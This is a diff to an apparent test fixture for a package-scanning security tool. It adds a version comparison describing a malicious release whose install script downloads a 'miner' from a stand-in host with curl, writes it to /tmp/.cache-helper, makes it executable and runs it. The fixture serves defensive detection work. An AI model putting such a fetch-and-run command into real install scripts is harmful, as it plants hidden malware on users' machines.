@@ -11,10 +11,12 @@ using engine::Severity;
 using engine::collect::Event;
 using engine::collect::Source;
 using engine::report::EvidenceRef;
+using engine::report::FileChanges;
 using engine::report::Finding;
 using engine::report::PackageReport;
 using engine::report::PhaseSummary;
 using engine::report::ScanReport;
+using engine::report::VersionChanges;
 using nlohmann::json;
 
 // Builds one package's event stream phase by phase, numbering events as the collector does.
@@ -202,6 +204,36 @@ PackageReport fastSetup() {
     p.fingerprint = {{"process", {"exec sh -c sh setup.sh", "exec curl", "exec /tmp/.cache-helper", "exec node"}},
                      {"network", {"dns cdn.vigil-demo.invalid", "connect :443", "http GET cdn.vigil-demo.invalid/miner"}},
                      {"filesystem", {"write /tmp/.cache-helper", "chmod /tmp/.cache-helper", "read $PKG/setup.sh"}}};
+    // What 3.1.0 brought over 3.0.9 (the shape the store's comparison gives): the dropper is new.
+    VersionChanges c;
+    c.fromVersion = "3.0.9";
+    c.toVersion = "3.1.0";
+    c.summary = "7 added, 1 removed, 1 changed; behaviour differs";
+    c.lines = {
+        {"added", "network.connections", "cdn.vigil-demo.invalid:443/tcp", "", {}},
+        {"added", "network.dns", "cdn.vigil-demo.invalid", "", {}},
+        {"added", "network.http", "GET cdn.vigil-demo.invalid /miner", "",
+         {s.ref(get, "GET cdn.vigil-demo.invalid/miner")}},
+        {"added", "file.writes", "/tmp/.cache-helper", "",
+         {s.ref(write, "write /tmp/.cache-helper"), s.ref(chmod, "chmod 0755 /tmp/.cache-helper")}},
+        {"removed", "file.reads", "$PKG/lib/legacy.js", "", {}},
+        {"added", "process.commands", "curl -fsSL https://cdn.vigil-demo.invalid/miner -o /tmp/.cache-helper", "",
+         {s.ref(curl, "exec curl -fsSL https://cdn.vigil-demo.invalid/miner")}},
+        {"added", "process.programs", "/tmp/.cache-helper", "", {s.ref(run, "exec /tmp/.cache-helper")}},
+        {"added", "process.shell_commands", "sh setup.sh", "", {}},
+        {"changed", "resource", "install took 2.4 s (was 0.3 s)", "", {}},
+    };
+    for (auto& line : c.lines)  // every added line is the install script's (s has moved on to api)
+        for (auto& e : line.events)
+            e.phase = "install";
+    for (auto& line : c.lines)  // the evidence text names the events the line carries, as the store's does
+        for (const auto& e : line.events)
+            line.evidence += (line.evidence.empty() ? "(" + e.phase + "; events #" : ",#") + std::to_string(e.seq);
+    for (auto& line : c.lines)
+        if (!line.evidence.empty())
+            line.evidence += ")";
+    c.files = FileChanges{{"setup.sh"}, {"lib/legacy.js"}, {"index.js", "package.json"}};
+    p.changes = std::move(c);
     return p;
 }
 
